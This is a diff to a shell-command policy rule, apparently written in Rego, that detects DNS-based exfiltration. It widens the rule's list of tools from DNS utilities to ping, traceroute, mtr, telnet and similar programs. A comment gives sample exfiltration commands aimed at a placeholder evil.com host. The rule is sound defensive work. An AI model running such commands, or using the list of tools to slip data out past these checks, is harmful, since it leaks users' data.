@@ -828,10 +828,10 @@ decision contains {"id": "shell/socket-send", "decision": "ask", "reason": reaso
 }
 
 # @rule shell/dns-exfiltration ask
-# A DNS query whose name carries data computed at run time (dig $(whoami).evil.com, nslookup $X.evil.com).
+# A DNS query whose name carries data computed at run time (dig $(whoami).evil.com, nslookup $X.evil.com, and the programs that resolve a host operand first: ping, traceroute, mtr, telnet).
 decision contains {"id": "shell/dns-exfiltration", "decision": "ask", "reason": reason} if {
 	some u in facts_of("uploads")
-	u.program in {"dig", "host", "nslookup", "drill", "resolvectl", "getent", "kdig", "delv"}
+	u.program in {"dig", "host", "nslookup", "drill", "resolvectl", "getent", "kdig", "delv", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "fping", "arping", "telnet"}
 	not secret_upload(u)
 	reason := sprintf("the command sends data computed at run time in a DNS name to %s (%s)", [u.target, u.evidence])
 }
